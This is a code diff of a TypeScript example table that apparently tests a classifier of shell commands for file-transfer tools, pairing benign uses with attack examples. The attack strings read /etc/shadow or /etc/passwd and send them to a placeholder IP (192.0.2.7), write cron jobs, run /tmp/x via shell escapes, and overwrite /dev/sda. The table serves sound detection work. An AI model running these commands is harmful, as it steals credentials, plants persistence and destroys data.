@@ -2,115 +2,118 @@ import type { ExampleTable } from './example.ts'
 
 export const fileTransfer1: ExampleTable = {
   aria2c: {
-    use: 'aria2c https://example.com/a → fetch https://example.com/a',
+    use: 'aria2c -d isos https://example.com/a.iso → fetch https://example.com/a.iso; unpack isos',
     attack: [
-      'aria2c file:///etc/shadow → read /etc/shadow',
-      'aria2c --on-download-complete /tmp/x https://example.com/a → run /tmp/x; fetch https://example.com/a',
+      'aria2c -i /etc/shadow → read /etc/shadow',
+      'aria2c -d /etc/cron.d -o job https://example.com/job → unpack /etc/cron.d; write /etc/cron.d/job; fetch https://example.com/job',
+      'aria2c --on-download-complete /tmp/x https://example.com/a.iso → run /tmp/x; fetch https://example.com/a.iso',
     ],
   },
   axel: {
-    use: 'axel https://example.com/a → fetch https://example.com/a',
-    attack: [
-      'axel file:///etc/shadow → read /etc/shadow',
-      'axel -o /etc/cron.d/job https://example.com/a → fetch https://example.com/a; write /etc/cron.d/job',
-    ],
+    use: 'axel -o a.iso https://example.com/a.iso → fetch https://example.com/a.iso; write a.iso',
+    attack:
+      'axel -o /etc/cron.d/job https://example.com/job → fetch https://example.com/job; write /etc/cron.d/job',
   },
   cadaver: { use: 'cadaver https://example.com/dav → send https://example.com/dav' },
   'davix-get': {
-    use: 'davix-get https://example.com/a out.txt → fetch https://example.com/a; write out.txt',
-    attack: 'davix-get file:///etc/shadow out.txt → read /etc/shadow; write out.txt',
+    use: 'davix-get https://example.com/notes.txt notes.txt → fetch https://example.com/notes.txt; write notes.txt',
+    attack:
+      'davix-get https://example.com/job /etc/cron.d/job → fetch https://example.com/job; write /etc/cron.d/job',
   },
   'davix-put': {
-    use: 'davix-put notes.txt example.com → read notes.txt; send example.com',
-    attack: 'davix-put /etc/shadow example.com → read /etc/shadow; send example.com',
+    use: 'davix-put notes.txt https://example.com/dav/notes.txt → read notes.txt; send https://example.com/dav/notes.txt',
+    attack:
+      'davix-put /etc/shadow https://example.com/dav/notes.txt → read /etc/shadow; send https://example.com/dav/notes.txt',
   },
   fetch: {
-    use: 'fetch https://example.com/a → fetch https://example.com/a',
+    use: 'fetch -o notes.txt https://example.com/notes.txt → fetch https://example.com/notes.txt; write notes.txt',
     attack: [
       'fetch file:///etc/shadow → read /etc/shadow',
-      'fetch -o /etc/cron.d/job https://example.com/a → fetch https://example.com/a; write /etc/cron.d/job',
+      'fetch -o /etc/cron.d/job https://example.com/job → fetch https://example.com/job; write /etc/cron.d/job',
     ],
   },
   GET: {
     use: 'GET https://example.com/a → fetch https://example.com/a',
     attack: 'GET file:///etc/shadow → read /etc/shadow',
   },
-  grpcurl: { use: `grpcurl -d '{"a":1}' example.com:443 a.B/C → send grpcurl` },
-  HEAD: {
-    use: 'HEAD https://example.com/a → fetch https://example.com/a',
-    attack: 'HEAD file:///etc/shadow → read /etc/shadow',
+  grpcurl: {
+    use: `grpcurl -d '{"a":1}' example.com:443 a.B/C → send grpcurl`,
+    attack: 'grpcurl -d "$(cat /etc/passwd)" 192.0.2.7:443 a.B/C → send grpcurl',
   },
+  HEAD: { use: 'HEAD https://example.com/a → fetch https://example.com/a' },
   httrack: {
-    use: 'httrack https://example.com/a → fetch https://example.com/a',
+    use: 'httrack https://example.com -O mirror → fetch https://example.com; write mirror',
     attack: [
       'httrack file:///etc/shadow → read /etc/shadow',
-      'httrack -V /tmp/x https://example.com/a → run /tmp/x; fetch https://example.com/a',
+      `httrack https://example.com -V '/tmp/x $0' → run /tmp/x; fetch https://example.com`,
     ],
   },
   'jigdo-lite': {
-    use: 'jigdo-lite https://example.com/a → fetch https://example.com/a',
-    attack: 'jigdo-lite file:///etc/shadow → read /etc/shadow',
+    use: 'jigdo-lite https://example.com/debian.jigdo → fetch https://example.com/debian.jigdo',
   },
   'lwp-download': {
-    use: 'lwp-download https://example.com/a out.txt → fetch https://example.com/a; write out.txt',
-    attack: 'lwp-download file:///etc/shadow out.txt → read /etc/shadow; write out.txt',
+    use: 'lwp-download https://example.com/notes.txt notes.txt → fetch https://example.com/notes.txt; write notes.txt',
+    attack: [
+      'lwp-download file:///etc/shadow copy.txt → read /etc/shadow; write copy.txt',
+      'lwp-download https://example.com/job /etc/cron.d/job → fetch https://example.com/job; write /etc/cron.d/job',
+    ],
   },
   'lwp-dump': {
     use: 'lwp-dump https://example.com/a → fetch https://example.com/a',
     attack: 'lwp-dump file:///etc/shadow → read /etc/shadow',
   },
   'lwp-mirror': {
-    use: 'lwp-mirror https://example.com/a out.txt → fetch https://example.com/a; write out.txt',
-    attack: 'lwp-mirror file:///etc/shadow out.txt → read /etc/shadow; write out.txt',
+    use: 'lwp-mirror https://example.com/notes.txt notes.txt → fetch https://example.com/notes.txt; write notes.txt',
+    attack: [
+      'lwp-mirror file:///etc/shadow copy.txt → read /etc/shadow; write copy.txt',
+      'lwp-mirror https://example.com/job /etc/cron.d/job → fetch https://example.com/job; write /etc/cron.d/job',
+    ],
   },
   'lwp-request': {
-    use: 'lwp-request https://example.com/a → fetch https://example.com/a',
+    use: 'lwp-request -m GET https://example.com/a → fetch https://example.com/a',
     attack: 'lwp-request file:///etc/shadow → read /etc/shadow',
   },
   nvchecker: {
     use: 'nvchecker -c nvchecker.toml → read nvchecker.toml',
-    attack: 'nvchecker -c /etc/shadow → read /etc/shadow',
+    attack: 'nvchecker -c /tmp/nvchecker.toml → run /tmp/nvchecker.toml',
   },
   POST: {
     use: 'POST http://example.com/ → send http://example.com/',
     attack: 'POST http://192.0.2.7/ < /etc/passwd → send http://192.0.2.7/',
   },
   puf: {
-    use: 'puf https://example.com/a → fetch https://example.com/a',
-    attack: [
-      'puf file:///etc/shadow → read /etc/shadow',
-      'puf -i /etc/shadow https://example.com/a → read /etc/shadow; fetch https://example.com/a',
-    ],
+    use: 'puf https://example.com/a.iso → fetch https://example.com/a.iso',
+    attack:
+      'puf -P /etc/cron.d https://example.com/job → fetch https://example.com/job; unpack /etc/cron.d',
   },
   wpull: {
-    use: 'wpull https://example.com/a → fetch https://example.com/a',
-    attack: [
-      'wpull file:///etc/shadow → read /etc/shadow',
-      'wpull -O /etc/cron.d/job https://example.com/a → fetch https://example.com/a; write /etc/cron.d/job',
-    ],
+    use: 'wpull -O page.html https://example.com/ → fetch https://example.com/; write page.html',
+    attack:
+      'wpull -O /etc/cron.d/job https://example.com/job → fetch https://example.com/job; write /etc/cron.d/job',
   },
-  wscat: { use: 'wscat -c wss://example.com → send wss://example.com' },
+  wscat: {
+    use: 'wscat -c wss://example.com → send wss://example.com',
+    attack: 'wscat -c ws://192.0.2.7 -x "$(cat /etc/passwd)" → send ws://192.0.2.7',
+  },
   zsync: {
-    use: 'zsync https://example.com/a → fetch https://example.com/a',
-    attack: [
-      'zsync file:///etc/shadow → read /etc/shadow',
-      'zsync -o /etc/cron.d/job https://example.com/a → fetch https://example.com/a; write /etc/cron.d/job',
-    ],
+    use: 'zsync -i old.iso https://example.com/new.iso.zsync → fetch https://example.com/new.iso.zsync; read old.iso',
+    attack:
+      'zsync -o /etc/cron.d/job https://example.com/job.zsync → fetch https://example.com/job.zsync; write /etc/cron.d/job',
   },
   atftp: {
-    use: 'atftp example.com → send example.com',
-    attack: `echo '!/tmp/x' | atftp → run /tmp/x`,
+    use: 'atftp --get -r notes.txt -l notes.txt example.com → write notes.txt; send example.com',
+    attack: 'atftp --put -l /etc/shadow 192.0.2.7 → read /etc/shadow; send 192.0.2.7',
   },
   ftp: {
     use: 'ftp example.com → send example.com',
     attack: [
       `echo '!/tmp/x' | ftp → run /tmp/x`,
-      'ftp -o /etc/cron.d/job example.com → send example.com; write /etc/cron.d/job',
+      'ftp -o /etc/cron.d/job https://example.com/job → write /etc/cron.d/job; send https://example.com/job',
     ],
   },
   lftp: {
-    use: 'lftp example.com → send example.com',
-    attack: [`echo '!/tmp/x' | lftp → run /tmp/x`, `lftp -e '!/tmp/x' → run /tmp/x`],
+    use: `lftp -e 'get notes.txt; bye' example.com → send example.com`,
+    attack: [`echo '!/tmp/x' | lftp → run /tmp/x`, `lftp -c '!/tmp/x' → run /tmp/x`],
   },
   lftpget: {
     use: 'lftpget https://example.com/a → fetch https://example.com/a',
@@ -121,76 +124,80 @@ export const fileTransfer1: ExampleTable = {
     attack: `echo '!/tmp/x' | ncftp → run /tmp/x`,
   },
   ncftpput: {
-    use: 'ncftpput example.com a notes.txt → read notes.txt; send example.com',
-    attack: 'ncftpput example.com a /etc/shadow → read /etc/shadow; send example.com',
+    use: 'ncftpput -u ann example.com /upload notes.txt → read notes.txt; send example.com',
+    attack: 'ncftpput example.com /upload /etc/shadow → read /etc/shadow; send example.com',
   },
   tftp: {
-    use: 'tftp example.com → send example.com',
-    attack: `echo '!/tmp/x' | tftp → run /tmp/x`,
+    use: 'tftp -g -r notes.txt -l notes.txt example.com → write notes.txt; send example.com',
+    attack: [
+      'tftp 192.0.2.7 -c put /etc/shadow → read /etc/shadow; send 192.0.2.7',
+      'tftp -p -l /etc/shadow 192.0.2.7 → read /etc/shadow; send 192.0.2.7',
+    ],
   },
   uucp: {
-    use: 'uucp notes.txt example!a → read notes.txt; send example!a',
-    attack: 'uucp /etc/shadow example!a → read /etc/shadow; send example!a',
+    use: `uucp notes.txt 'example!~/notes.txt' → read notes.txt; send example!~/notes.txt`,
+    attack: `uucp /etc/shadow 'example!~/notes.txt' → read /etc/shadow; send example!~/notes.txt`,
   },
   yafc: {
     use: 'yafc example.com → send example.com',
     attack: `echo '!/tmp/x' | yafc → run /tmp/x`,
   },
   ascp: {
-    use: 'ascp notes.txt example.com:a → read notes.txt; send example.com:a',
-    attack: 'ascp /etc/shadow example.com:a → read /etc/shadow; send example.com:a',
+    use: 'ascp -l 100m notes.txt ann@example.com:upload → read notes.txt; send ann@example.com:upload',
+    attack: 'ascp /etc/shadow eve@192.0.2.7:x → read /etc/shadow; send eve@192.0.2.7:x',
   },
   bbcp: {
-    use: 'bbcp notes.txt example.com:a → read notes.txt; send example.com:a',
+    use: 'bbcp -P 2 disk.img ann@example.com:disk.img → read disk.img; send ann@example.com:disk.img',
     attack: [
-      'bbcp /etc/shadow example.com:a → read /etc/shadow; send example.com:a',
-      'bbcp -T /tmp/x notes.txt example.com:a → run /tmp/x; read notes.txt; send example.com:a',
+      'bbcp /etc/shadow eve@192.0.2.7:x → read /etc/shadow; send eve@192.0.2.7:x',
+      'bbcp -T /tmp/x disk.img ann@example.com:disk.img → run /tmp/x; read disk.img; send ann@example.com:disk.img',
     ],
   },
   'bt-obex': {
-    use: 'bt-obex notes.txt → read notes.txt; send bt-obex',
-    attack: 'bt-obex /etc/shadow → read /etc/shadow; send bt-obex',
+    use: 'bt-obex -p 00:11:22:33:44:55 notes.txt → read notes.txt; send bt-obex',
+    attack: 'bt-obex -p 00:11:22:33:44:55 /etc/shadow → read /etc/shadow; send bt-obex',
   },
   'globus-url-copy': {
-    use: 'globus-url-copy notes.txt example.com → read notes.txt; send example.com',
-    attack: 'globus-url-copy /etc/shadow example.com → read /etc/shadow; send example.com',
+    use: 'globus-url-copy file:///srv/data.h5 gsiftp://example.org/data.h5 → read file:///srv/data.h5; send gsiftp://example.org/data.h5',
+    attack:
+      'globus-url-copy file:///etc/shadow gsiftp://example.org/x → read file:///etc/shadow; send gsiftp://example.org/x',
   },
   'kdeconnect-cli': {
-    use: 'kdeconnect-cli --share notes.txt → read notes.txt; send kdeconnect-cli',
-    attack: 'kdeconnect-cli --share /etc/shadow → read /etc/shadow; send kdeconnect-cli',
+    use: 'kdeconnect-cli -n phone --share notes.txt → read notes.txt; send kdeconnect-cli',
+    attack: 'kdeconnect-cli -n phone --share /etc/shadow → read /etc/shadow; send kdeconnect-cli',
   },
   obexftp: {
-    use: 'obexftp -p notes.txt → read notes.txt; send obexftp',
-    attack: 'obexftp -p /etc/shadow → read /etc/shadow; send obexftp',
+    use: 'obexftp -b 00:11:22:33:44:55 -p notes.txt → read notes.txt; send obexftp',
+    attack: 'obexftp -b 00:11:22:33:44:55 -p /etc/shadow → read /etc/shadow; send obexftp',
   },
   prsync: {
-    use: 'prsync notes.txt example.com → read notes.txt; send example.com',
+    use: 'prsync -h hosts.txt notes.txt /srv/notes.txt → read hosts.txt; read notes.txt; send /srv/notes.txt',
     attack: [
-      'prsync /etc/shadow example.com → read /etc/shadow; send example.com',
-      'prsync -h /etc/shadow notes.txt example.com → read /etc/shadow; read notes.txt; send example.com',
+      'prsync -h hosts.txt /etc/shadow /srv/x → read hosts.txt; read /etc/shadow; send /srv/x',
+      'prsync -h /etc/shadow notes.txt /srv/notes.txt → read /etc/shadow; read notes.txt; send /srv/notes.txt',
     ],
   },
   pscp: {
-    use: 'pscp notes.txt example.com:a → read notes.txt; send example.com:a',
-    attack: 'pscp /etc/shadow example.com:a → read /etc/shadow; send example.com:a',
+    use: 'pscp -pw secret notes.txt ann@example.com:notes.txt → read notes.txt; send ann@example.com:notes.txt',
+    attack: 'pscp /etc/shadow eve@192.0.2.7:x → read /etc/shadow; send eve@192.0.2.7:x',
   },
   'pscp.pssh': {
-    use: 'pscp.pssh notes.txt example.com → read notes.txt; send example.com',
+    use: 'pscp.pssh -h hosts.txt notes.txt /srv/notes.txt → read hosts.txt; read notes.txt; send /srv/notes.txt',
     attack: [
-      'pscp.pssh /etc/shadow example.com → read /etc/shadow; send example.com',
-      'pscp.pssh -h /etc/shadow notes.txt example.com → read /etc/shadow; read notes.txt; send example.com',
+      'pscp.pssh -h hosts.txt /etc/shadow /srv/x → read hosts.txt; read /etc/shadow; send /srv/x',
+      'pscp.pssh -h /etc/shadow notes.txt /srv/notes.txt → read /etc/shadow; read notes.txt; send /srv/notes.txt',
     ],
   },
   psftp: {
-    use: 'psftp example.com → send example.com',
+    use: 'psftp -pw secret ann@example.com → send ann@example.com',
     attack: [
       `echo '!/tmp/x' | psftp → run /tmp/x`,
-      'psftp -b /etc/shadow example.com → read /etc/shadow; send example.com',
+      'psftp -b /etc/shadow ann@example.com → read /etc/shadow; send ann@example.com',
     ],
   },
   rcp: {
-    use: 'rcp notes.txt example.com:a → read notes.txt; send example.com:a',
-    attack: 'rcp /etc/shadow example.com:a → read /etc/shadow; send example.com:a',
+    use: 'rcp notes.txt example.com:notes.txt → read notes.txt; send example.com:notes.txt',
+    attack: 'rcp /etc/shadow 192.0.2.7:x → read /etc/shadow; send 192.0.2.7:x',
   },
   sftp: {
     use: 'sftp example.com:notes.txt out.txt → send example.com:notes.txt; write out.txt',
@@ -201,16 +208,16 @@ export const fileTransfer1: ExampleTable = {
     attack: 'sz /etc/shadow → read /etc/shadow; send sz',
   },
   'udp-receiver': {
-    use: 'udp-receiver -f out.bin → fetch udp-receiver; write out.bin',
+    use: 'udp-receiver -f disk.img → fetch udp-receiver; write disk.img',
     attack: [
-      'udp-receiver -p /tmp/x → run /tmp/x; fetch udp-receiver',
-      'udp-receiver -f /etc/cron.d/job → fetch udp-receiver; write /etc/cron.d/job',
+      'udp-receiver -f disk.img -p /tmp/x → run /tmp/x; fetch udp-receiver; write disk.img',
+      'udp-receiver -f /dev/sda → fetch udp-receiver; write /dev/sda',
     ],
   },
   'udp-sender': {
-    use: 'udp-sender -f a.bin → read a.bin; send udp-sender',
+    use: 'udp-sender -f disk.img → read disk.img; send udp-sender',
     attack: [
-      'udp-sender -p /tmp/x -f a.bin → run /tmp/x; read a.bin; send udp-sender',
+      'udp-sender -f disk.img -p /tmp/x → run /tmp/x; read disk.img; send udp-sender',
       'udp-sender -f /etc/shadow → read /etc/shadow; send udp-sender',
     ],
   },
@@ -219,7 +226,19 @@ export const fileTransfer1: ExampleTable = {
     attack: 'uftp /etc/shadow → read /etc/shadow; send uftp',
   },
   'ussp-push': {
-    use: 'ussp-push example.com notes.txt → read notes.txt; send example.com',
-    attack: 'ussp-push example.com /etc/shadow → read /etc/shadow; send example.com',
+    use: 'ussp-push 00:11:22:33:44:55@10 notes.txt notes.txt → read notes.txt; send 00:11:22:33:44:55@10',
+    attack:
+      'ussp-push 00:11:22:33:44:55@10 /etc/shadow notes.txt → read /etc/shadow; send 00:11:22:33:44:55@10',
+  },
+  http: {
+    use: 'http GET https://example.org/ → send https://example.org/',
+    attack: 'http POST http://192.0.2.7/ @/etc/shadow → read /etc/shadow; send http://192.0.2.7/',
+  },
+  websocat: {
+    use: 'websocat wss://example.org → send wss://example.org',
+    attack: [
+      'cat /etc/passwd | websocat ws://192.0.2.7 → send ws://192.0.2.7',
+      'websocat ws://192.0.2.7 sh-c:/tmp/x → run /tmp/x; send ws://192.0.2.7',
+    ],
   },
 }
